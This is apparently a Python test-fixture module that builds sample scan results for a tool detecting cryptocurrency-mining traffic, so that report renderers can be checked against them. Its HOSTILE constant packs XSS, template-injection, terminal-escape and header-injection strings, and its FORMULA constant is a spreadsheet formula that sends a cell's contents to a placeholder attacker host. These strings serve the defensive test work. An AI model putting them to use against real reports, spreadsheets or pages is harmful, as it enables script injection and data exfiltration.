"""Scan results made by hand: one of each kind, and one whose every text is hostile."""

import random
from dataclasses import replace
from itertools import pairwise

from headframe.detectors.network.stratum.course import course_of
from headframe.records.conversation import PacketRef
from headframe.records.finding import (
    BlockSync,
    EvidenceLine,
    Family,
    Finding,
    Insufficient,
    Interval,
    Lookalike,
    Role,
    Shares,
    SourceRef,
    Timeline,
)
from headframe.records.indicator import IndicatorKind
from headframe.records.scan import Damage, InputSummary, ScanResult

START_NS = 1_618_542_587_123_456_789
"""2021-04-16 03:09:47.123456789 UTC"""
SECOND = 1_000_000_000

HOSTILE = (
    "</style><script>alert(1)</script><img src=x onerror=alert(1)>\"'&{{7*7}}"
    "\x1b[31m\u202e\u2066\udc80\x7f\x9b2J\r\nX: y"
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"pay")'


def timeline(
    seed: int = 1, *, hours: float = 6.0, jobs_every_s: float = 60.0, shares_every_s: float = 45.0
) -> Timeline:
    """A session with jobs and shares at random times, and a difficulty that settles."""
    rng = random.Random(seed)
    end = hours * 3600
    jobs, at = [], 0.0
    while (at := at + rng.expovariate(1 / jobs_every_s)) < end:
        jobs.append(START_NS + int(at * SECOND))
    shares, at = [], 0.0
    while (at := at + rng.expovariate(1 / shares_every_s)) < end:
        outcome = rng.choices(["accepted", "rejected", "stale", "unanswered"], [96, 1.5, 1.5, 1])[0]
        shares.append((START_NS + int(at * SECOND), outcome))
    steps = ((0.0, 10_000.0), (0.04, 60_000.0), (0.1, 120_000.0), (0.45, 180_000.0), (0.8, 150_000.0))
    difficulty = tuple((START_NS + int(part * end * SECOND), value) for part, value in steps)
    return Timeline(jobs=tuple(jobs), shares=tuple(shares), difficulty=difficulty)


def shares_of(course: Timeline) -> Shares:
    """The counts that belong to a timeline."""
    outcomes = [outcome for _, outcome in course.shares]
    return Shares(**{name: outcomes.count(name) for name in ("accepted", "rejected", "stale", "unanswered")})


def miner(seed: int = 1, **changes: object) -> Finding:
    """A Monero miner at a public pool, in the clear, for six hours."""
    course = timeline(seed)
    finding = Finding(
        detector="stratum",
        version="1",
        family=Family.CONTENT,
        role=Role.MINER,
        host="192.0.2.41",
        peer="198.51.100.7:4444",
        coins=("XMR",),
        protocol="cryptonote",
        pool="pool.minexmr.com",
        agent="XMRig/6.10.0 (Linux x86_64) libuv/1.38.0 gcc/9.3.0",
        started_ns=START_NS,
        ended_ns=START_NS + 6 * 3600 * SECOND,
        shares=shares_of(course),
        hashrate_hs=Interval(2_710.0, 2_980.0, 3_270.0),
        power_w=Interval(48.0, 95.0, 210.0),
        log10_e=6.28,
        explanation=(
            "The host logged in to a pool, was given work 371 times and handed in shares of it. The pool accepted "
            "nearly all of them, so work was really done at the rate stated."
        ),
        contradictions=("12 shares were refused as stale, as happens on slow links.",),
        blind_spots=(
            "Work done for another pool over an encrypted tunnel from the same host would not be seen here.",
            "The hash rate covers this session only.",
        ),
        evidence=(
            EvidenceLine(
                time_ns=START_NS + 40_000_000,
                text='Client sent "login" with an account (hash 5f1c0a77) and agent XMRig/6.10.0',
                packet=PacketRef("captures/site-a.pcapng", 104),
            ),
            EvidenceLine(
                time_ns=START_NS + 90_000_000,
                text="Server answered the login with a job for height 2340117, algorithm rx/0",
                packet=PacketRef("captures/site-a.pcapng", 106),
            ),
            EvidenceLine(
                time_ns=START_NS + 41 * SECOND,
                text='Client sent "submit"; the server answered "OK" 38 ms later',
                packet=PacketRef("captures/site-a.pcapng", 131),
            ),
        ),
        timeline=course,
        course=course_of(course.jobs, course.shares),
        sources=(SourceRef(file="captures/site-a.pcapng", packets=(104, 106, 107, 108, 131, 133, 150)),),
        community_ids=("1:LQU9qZlK+B5F3KDmev6m5PMibrg=",),
        accounts=("sha256:5f1c0a77", "worker sha256:90ab12ce"),
    )
    return replace(finding, **changes)  # type: ignore[arg-type]


def victim() -> Finding:
    """A host that only ever reached a malware proxy, inside TLS."""
    return Finding(
        detector="pool_endpoint",
        version="1",
        family=Family.ENDPOINT,
        role=Role.CONTACT,
        host="2001:db8:41::99",
        peer="[2001:db8:ffff::5]:443",
        coins=("XMR",),
        protocol="tls_sni",
        pool="proxy.bad.example",
        started_ns=START_NS + 900 * SECOND,
        ended_ns=START_NS + 5_000 * SECOND,
        log10_e=2.4,
        explanation="The host named proxy.bad.example in 14 TLS handshakes. "
        "A published list gives it as a relay of mining malware.",
        blind_spots=("What was said inside TLS is not visible.",),
        evidence=(
            EvidenceLine(
                time_ns=START_NS + 900 * SECOND,
                text="TLS ClientHello names proxy.bad.example",
                packet=PacketRef("captures/site-b.pcap.zst", 88_120),
            ),
        ),
        sources=(SourceRef(file="captures/site-b.pcap.zst", packets=tuple(range(88_120, 88_150, 2))),),
        community_ids=("1:RcCrCS5fwYUeIzgDDx64EN3+okU=",),
        indicator_kinds=(IndicatorKind.MALWARE_PROXY,),
    )


def bitcoin_miner() -> Finding:
    """An ASIC behind a proxy, with a difficulty in the terahashes."""
    course = timeline(7, hours=2.0, jobs_every_s=30, shares_every_s=9)
    return miner(
        host="192.0.2.77",
        peer="203.0.113.20:3333",
        coins=("BTC", "BCH"),
        protocol="stratum-v1",
        pool=None,
        agent="cgminer/4.11.1",
        hashrate_hs=Interval(92.1e12, 104e12, 117e12),
        power_w=Interval(2_900.0, 3_250.0, 5_400.0),
        log10_e=12.9,
        timeline=replace(
            course, difficulty=((START_NS, 65_536 * 2.0**32), (START_NS + 600 * SECOND, 262_144 * 2.0**32))
        ),
        shares=shares_of(course),
        ended_ns=START_NS + 2 * 3600 * SECOND,
        contradictions=(),
    )


def probe() -> Finding:
    """A client that asked an endpoint that never answered as a pool."""
    return Finding(
        detector="stratum",
        version="1",
        family=Family.CONTENT,
        role=Role.PROBE,
        host="192.0.2.200",
        peer="203.0.113.99:8333",
        protocol="stratum-v1",
        started_ns=START_NS + 4 * SECOND,
        ended_ns=START_NS + 9 * SECOND,
        log10_e=1.1,
        explanation='The host sent "mining.subscribe" and got no answer of a pool.',
        sources=(SourceRef(file="captures/site-a.pcapng", packets=(9,)),),
    )


def mixed() -> ScanResult:
    """Miners, a victim, a probe, lookalikes, an unanswered question, and two damaged stretches."""
    return ScanResult(
        findings=[probe(), victim(), bitcoin_miner(), miner()],
        insufficient=[
            Insufficient(
                detector="stratum",
                host="192.0.2.12",
                peer="198.51.100.80:14444",
                missing="Only the server's side of the conversation was captured, and only its last 3 packets.",
            )
        ],
        lookalikes=[
            Lookalike(
                detector="stratum",
                host="192.0.2.60",
                peer="192.0.2.61:8545",
                label="plain JSON-RPC",
                reason='Calls "eth_blockNumber" and "eth_call" only; a miner would ask for work.',
                started_ns=START_NS,
                sources=(SourceRef(file="captures/site-a.pcapng", packets=(200, 201)),),
            ),
            Lookalike(
                detector="stratum",
                host="192.0.2.61",
                peer="198.51.100.200:6667",
                label="chat",
                reason='"mining.notify" stands inside a PRIVMSG line.',
                started_ns=START_NS + SECOND,
            ),
        ],
        inputs=[
            InputSummary(
                file="captures/site-a.pcapng",
                bytes_read=734_003_200,
                packets=1_204_887,
                decoded=1_199_002,
                first_ns=START_NS - 60 * SECOND,
                last_ns=START_NS + 7 * 3600 * SECOND,
                undecoded={"arp": 5_120, "unknown link type 147": 765},
            ),
            InputSummary(
                file="captures/site-b.pcap.zst",
                bytes_read=91_112_004,
                packets=140_022,
                decoded=140_022,
                first_ns=START_NS,
                last_ns=START_NS + 6_000 * SECOND,
                damage=[
                    Damage(
                        file="captures/site-b.pcap.zst",
                        offset=4_194_304,
                        length=1_312,
                        packets=1,
                        reason="bad record header",
                    ),
                    Damage(
                        file="captures/site-b.pcap.zst", offset=91_110_000, length=2_004, packets=0, reason="truncated"
                    ),
                ],
            ),
        ],
        conversations=18_204,
        packets=1_344_909,
        bytes_read=825_115_204,
        elapsed_s=1.84,
    )


def sync(seed: int = 5, *, hours: float = 3.0, spacing_s: float = 118.0) -> BlockSync:
    """A conversation that keeps step with Monero: a push within the window of nearly each block, and others between."""
    rng = random.Random(seed)
    window = 2 * SECOND
    blocks, pushes, at = [], [], 0.0
    while (at := at + rng.expovariate(1 / spacing_s)) < hours * 3600:
        blocks.append(START_NS + int(at * SECOND))
        if rng.random() < 0.96:
            pushes.append(blocks[-1] + int(rng.uniform(0.2, 1.7) * SECOND))
    pushes += [START_NS + int(rng.uniform(0, hours * 3600) * SECOND) for _ in range(len(blocks) // 2)]
    pushes.sort()
    hit = tuple(any(0 <= push - block <= window for push in pushes) for block in blocks)
    near = sum(min(after - before, window) for before, after in pairwise(pushes))
    return BlockSync(
        chain="XMR",
        log10_e_by_chain=(("XMR", 71.62), ("BTC", -0.41), ("ETC", -1.3)),
        clock_sources=("file blocks.csv", "monerod"),
        offset_s=Interval(16.5, 17.0, 17.5),
        window_s=2.0,
        pushes_counted="large",
        blocks=len(blocks),
        hits=sum(hit),
        expected_hits=len(blocks) * near / (hours * 3600 * SECOND),
        watched_s=hours * 3600.0,
        block_ns=tuple(blocks),
        block_hit=hit,
        push_ns=tuple(pushes),
    )


def timing_miner(seed: int = 5, **changes: object) -> Finding:
    """A host whose encrypted traffic keeps step with Monero for three hours: times, sizes and directions are all."""
    course = sync(seed)
    finding = Finding(
        detector="chain_sync",
        version="1",
        family=Family.TIMING,
        role=Role.MINER,
        host="192.0.2.90",
        peer="203.0.113.44:443",
        coins=("XMR",),
        protocol="chain-sync",
        started_ns=START_NS,
        ended_ns=START_NS + 3 * 3600 * SECOND,
        log10_e=71.14,
        explanation="Nearly all blocks of XMR were followed by a push of the server within 2 s.",
        blind_spots=("Chains with blocks every few seconds cannot be resolved.",),
        block_sync=course,
        sources=(SourceRef(file="captures/site-a.pcapng", packets=(17,)),),
        community_ids=("1:M+v+Y5vghuAYV1HE0M/RVhO1bqw=",),
    )
    return replace(finding, **changes)  # type: ignore[arg-type]


def follower(number: int = 0, **changes: object) -> Finding:
    """A host that hears from its server at the same moments as others; no chain was compared."""
    finding = Finding(
        detector="peer_sync",
        version="1",
        family=Family.TIMING,
        role=Role.FOLLOWER,
        host=f"192.0.2.{150 + number}",
        peer=f"203.0.{113 + number}.44:443",
        protocol="peer-sync",
        started_ns=START_NS,
        ended_ns=START_NS + 3 * 3600 * SECOND,
        log10_e=4.2,
        explanation="5 hosts with 5 servers follow one hidden clock. No chain was compared.",
        contradictions=("No chain was compared, so what the common clock is, is not known.",),
        sources=(SourceRef(file="captures/site-a.pcapng", packets=(18 + number,)),),
    )
    return replace(finding, **changes)  # type: ignore[arg-type]


def followers() -> ScanResult:
    """Seven hosts that follow one hidden clock, and nothing else."""
    return replace(
        clean(), findings=[follower(n) for n in range(7)], timing_tested=30, timing_fdr=0.01, content_blind=True
    )


def timed() -> ScanResult:
    """Miners told by timing, one of them by what it says as well, followers that do not mine, and a useless clock."""
    in_the_clear = miner()
    return replace(
        mixed(),
        findings=[
            timing_miner(),
            in_the_clear,
            timing_miner(6, host=in_the_clear.host, peer=in_the_clear.peer, log10_e=68.2),
        ],
        lookalikes=[
            Lookalike(
                detector="chain_sync",
                host="192.0.2.111",
                peer="198.51.100.21:18080",
                label="XMR node",
                reason="Of 90 blocks of XMR in 180 minutes, 88 were followed by a push of the server within 2 s; by "
                "chance it would be 3.1. But the client sent 44 messages of 1000 bytes and more, as a node does that "
                "passes on blocks and transactions; shares are small.",
                started_ns=START_NS,
                sources=(SourceRef(file="captures/site-a.pcapng", packets=(300,)),),
            ),
            Lookalike(
                detector="chain_sync",
                host="192.0.2.112",
                peer="198.51.100.22",
                label="XMR listener",
                reason="The client sent nothing after its introduction.",
                started_ns=START_NS,
            ),
        ],
        insufficient=[
            Insufficient(
                detector="chain_sync",
                host="",
                peer="",
                missing="the clock of BTC knows blocks from 2023-05-01 00:00:00 UTC to 2023-06-01 00:00:00 UTC, the "
                "traffic is from 2021-04-16 03:09:47 UTC to 2021-04-16 09:09:47 UTC, and they share no time; give a "
                "clock of that time, and check its time zone",
            ),
            *mixed().insufficient,
        ],
        remarks=["blocks.csv: XMR: 368,296 heights are missing, in 41 places", "lists/pools.csv, line 7: no address"],
        timing_tested=412,
        timing_fdr=0.01,
    )


def clean() -> ScanResult:
    """Nothing found, nothing damaged."""
    return ScanResult(
        inputs=[
            InputSummary(
                file="quiet.pcap", bytes_read=1_000, packets=10, decoded=10, first_ns=START_NS, last_ns=START_NS
            )
        ],
        conversations=2,
        packets=10,
        bytes_read=1_000,
        elapsed_s=0.01,
    )


def empty() -> ScanResult:
    """A scan that read nothing at all."""
    return ScanResult()


def hostile() -> ScanResult:
    """Every text that can come out of traffic or a file name is an attack."""
    finding = miner(
        host=HOSTILE,
        peer=HOSTILE,
        coins=(HOSTILE,),
        protocol=HOSTILE,
        pool=FORMULA,
        agent=HOSTILE * 40,
        explanation=HOSTILE,
        contradictions=(HOSTILE,),
        blind_spots=(HOSTILE,),
        evidence=(EvidenceLine(time_ns=START_NS, text=HOSTILE, packet=PacketRef(HOSTILE, 1)),),
        sources=(SourceRef(file=HOSTILE, packets=(1, 2, 3)),),
        community_ids=(HOSTILE,),
        accounts=(FORMULA, HOSTILE),
        timeline=Timeline(
            jobs=(START_NS, 2**80),
            shares=((-(2**70), HOSTILE), (START_NS, "accepted")),
            difficulty=((START_NS, float("inf")),),
        ),
        block_sync=BlockSync(
            chain=HOSTILE,
            log10_e_by_chain=((HOSTILE, float("inf")), (FORMULA, float("nan"))),
            clock_sources=(HOSTILE, FORMULA),
            offset_s=Interval(float("nan"), -3.0, float("inf")),
            window_s=1.0,
            pushes_counted=HOSTILE,
            blocks=2**70,
            hits=3,
            expected_hits=float("nan"),
            watched_s=float("inf"),
            block_ns=(START_NS, 2**80, -(2**70)),
            block_hit=(True, False, True),
            push_ns=(START_NS, 2**81),
        ),
    )
    strange_numbers = miner(
        hashrate_hs=Interval(float("nan"), float("inf"), 1e300),
        power_w=Interval(-1.0, 0.0, float("inf")),
        log10_e=float("nan"),
        started_ns=2**90,
        ended_ns=-(2**90),
        timeline=Timeline(difficulty=((START_NS, float("nan")), (START_NS, 0.0), (START_NS, -5.0))),
        block_sync=replace(sync(), window_s=float("nan"), block_hit=(), expected_hits=-1.0),
    )
    return ScanResult(
        findings=[finding, strange_numbers],
        insufficient=[Insufficient(detector="stratum", host=HOSTILE, peer=HOSTILE, missing=HOSTILE)],
        lookalikes=[
            Lookalike(
                detector="stratum",
                host=HOSTILE,
                peer=HOSTILE,
                label=HOSTILE,
                reason=HOSTILE,
                started_ns=0,
                sources=(SourceRef(file=HOSTILE, packets=()),),
                community_ids=(HOSTILE,),
            )
        ],
        inputs=[
            InputSummary(
                file=HOSTILE,
                bytes_read=5,
                packets=1,
                undecoded={HOSTILE: 3},
                damage=[Damage(file=HOSTILE, offset=0, length=5, packets=0, reason=HOSTILE)],
            )
        ],
        packets=1,
        bytes_read=5,
    )


def many(number: int = 1_000) -> ScanResult:
    """As many miners as asked for, with some 850 points on each timeline."""
    findings = [
        miner(seed, host=f"10.{seed >> 16 & 255}.{seed >> 8 & 255}.{seed & 255}", started_ns=START_NS + seed * SECOND)
        for seed in range(number)
    ]
    return replace(mixed(), findings=findings)


SCANS = {"mixed": mixed, "timed": timed, "followers": followers, "clean": clean, "empty": empty, "hostile": hostile}
"""Every sample by name; each report must render all of them."""
